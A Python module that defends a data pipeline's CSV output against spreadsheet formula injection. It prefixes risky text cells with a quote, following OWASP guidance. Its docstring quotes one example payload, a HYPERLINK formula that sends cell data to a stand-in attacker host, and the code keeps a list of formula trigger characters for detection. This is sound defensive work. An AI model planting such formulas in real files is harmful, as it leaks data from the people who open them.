"""CSV for people: neutralise spreadsheet formula injection in every CSV the toolkit writes.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula, so a diary value such as
``=HYPERLINK("http://evil.example/?"&A1)`` copied into ``quarantine.csv`` would run when a data
manager opens the file. Following the OWASP guidance on CSV injection
(https://owasp.org/www-community/attacks/CSV_Injection), such a cell is prefixed with a single
quote ``'``, which spreadsheets show as text and never evaluate.

Numbers stay numbers: numeric columns are written as they are, and a text cell that is a plain
decimal number (``-0.25``, ``+3``, ``1e-05``, ``-inf``, as the models write their estimates) is
not a formula and is left alone. Everything else that is written as CSV goes through
:func:`write_csv`.
"""

from __future__ import annotations

from pathlib import Path

import polars as pl

from pipeline import atomic

#: First characters that make a spreadsheet evaluate a cell (OWASP).
FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
#: Prefix that makes a spreadsheet show the cell as text.
NEUTRALISING_PREFIX = "'"
#: A plain decimal number (optionally signed, with exponent) or a signed infinity / NaN.
_PLAIN_NUMBER = r"^[+-]?(?:(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?|(?i:inf|infinity|nan))$"
_TRIGGER = "^[" + "".join({"-": r"\-", "\t": r"\t", "\r": r"\r"}.get(c, c)
                          for c in FORMULA_TRIGGERS) + "]"


def neutralise(expr: pl.Expr) -> pl.Expr:
    """A text expression with formula-like cells prefixed by ``'``; null stays null."""
    risky = expr.str.contains(_TRIGGER) & ~expr.str.contains(_PLAIN_NUMBER)
    return pl.when(risky.fill_null(False)).then(NEUTRALISING_PREFIX + expr).otherwise(expr)


def safe_frame(frame: pl.DataFrame | pl.LazyFrame) -> pl.DataFrame | pl.LazyFrame:
    """``frame`` with every text column (and column name) neutralised; numbers untouched."""
    schema = frame.collect_schema() if isinstance(frame, pl.LazyFrame) else frame.schema
    text = [n for n, t in schema.items() if t in (pl.String, pl.Categorical)
            or isinstance(t, pl.Enum)]
    out = frame.with_columns(neutralise(pl.col(n).cast(pl.String)).alias(n) for n in text)
    return out.rename({n: _neutralise_name(n) for n in schema if _neutralise_name(n) != n})


def _neutralise_name(name: str) -> str:
    return pl.select(neutralise(pl.lit(name, dtype=pl.String))).item()


def write_csv(destination: Path, frame: pl.DataFrame | pl.LazyFrame, **options) -> Path:
    """Atomically write ``frame`` as CSV for people (``options`` go to ``DataFrame.write_csv``,
    or to ``LazyFrame.sink_csv`` for a lazy frame, which is written in streaming morsels)."""
    safe = safe_frame(frame)
    if isinstance(safe, pl.LazyFrame):
        return atomic.write_with(Path(destination), lambda tmp: safe.sink_csv(tmp, **options))
    return atomic.write_with(Path(destination), lambda tmp: safe.write_csv(tmp, **options))
